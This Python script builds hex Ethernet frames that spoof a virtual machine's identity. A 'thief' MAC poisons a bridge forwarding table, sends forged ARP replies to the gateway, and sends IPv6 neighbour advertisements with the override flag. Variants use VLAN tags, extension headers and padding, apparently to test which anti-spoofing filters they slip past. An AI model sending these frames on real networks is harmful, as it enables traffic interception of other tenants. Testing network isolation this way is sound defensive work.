#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-only
"""Frames that claim another's name, in hex: claims.py THIEF-MAC VM-MAC VM4 VM6 GW-MAC

A line each: what it is about (fdb: the bridge's table; arp, nd: the gateway's
neighbours), its name, the frame."""
import socket
import struct
import sys


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


thief, vm, gw = mac(sys.argv[1]), mac(sys.argv[2]), mac(sys.argv[5])
vm4 = socket.inet_pton(socket.AF_INET, sys.argv[3])
vm6 = socket.inet_pton(socket.AF_INET6, sys.argv[4])
own6 = vm6[:15] + b"\x99"
gw6 = vm6[:15] + b"\x01"
all6 = bytes.fromhex("ff02" + 26 * "0" + "01")


def ether(dst, src, proto, payload, *tags):
    head = dst + src
    for vlan in tags:
        head += struct.pack("!HH", 0x8100, vlan)
    frame = head + struct.pack("!H", proto) + payload
    return frame.ljust(60, b"\0")


def arp(*tags):
    head = struct.pack("!HHBBH", 1, 0x800, 6, 4, 2)
    return ether(gw, thief, 0x806, head + thief + vm4 + gw +
                 bytes([10, 9, 0, 1]), *tags)


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def packet(src, dst, message, headers):
    pseudo = src + dst + struct.pack("!II", len(message), 58)
    message = (message[:2] + struct.pack("!H", checksum(pseudo + message)) +
               message[4:])
    proto = 58
    for header in reversed(headers):
        message = bytes([proto]) + header[1:] + message
        proto = header[0]
    return struct.pack("!IHBB", 6 << 28, len(message), proto, 255) + src + dst + message


DSTOPTS = bytes([60, 0, 1, 4, 0, 0, 0, 0])
SLLA, TLLA = b"\1\1" + thief, b"\2\1" + thief


def nonce(octets):
    return bytes([14, octets // 8]).ljust(octets, b"\0")


def nd(kind, flags, body, options, src=own6, dst=gw6, headers=(), tags=()):
    message = struct.pack("!BBHI", kind, 0, 0, flags) + body + options
    return ether(gw, thief, 0x86dd, packet(src, dst, message, list(headers)),
                 *tags)


OVERRIDE = 0x20000000
# First what Linux is known to believe, then what others may.
CLAIMS = [
    ("fdb", "tag-0", ether(gw, vm, 0x88b5, b"", 0)),
    ("fdb", "tag-7", ether(gw, vm, 0x88b5, b"", 7)),
    ("fdb", "tags-7-8", ether(gw, vm, 0x88b5, b"", 7, 8)),
    ("fdb", "tags-0-0-0-0-0", ether(gw, vm, 0x88b5, b"", 0, 0, 0, 0, 0)),
    ("arp", "reply", arp()),
    ("arp", "reply-tag-0", arp(0)),
    ("arp", "reply-tags-0-0", arp(0, 0)),
    ("nd", "na", nd(136, OVERRIDE, vm6, TLLA)),
    ("nd", "na-272", nd(136, OVERRIDE, vm6, TLLA + nonce(240))),
    ("nd", "na-1200", nd(136, OVERRIDE, vm6, TLLA + nonce(1168))),
    ("nd", "na-9-headers", nd(136, OVERRIDE, vm6, TLLA, headers=[DSTOPTS] * 9)),
    ("nd", "na-two-options", nd(136, OVERRIDE, vm6, TLLA + b"\2\1" + vm)),
    ("nd", "na-tags-0-0", nd(136, OVERRIDE, vm6, TLLA, tags=(0, 0))),
    ("nd", "ns", nd(135, 0, gw6, SLLA, src=vm6)),
    ("nd", "rs", nd(133, 0, b"", SLLA, src=vm6)),
]

for about, name, frame in CLAIMS:
    print(about, name, frame.hex())
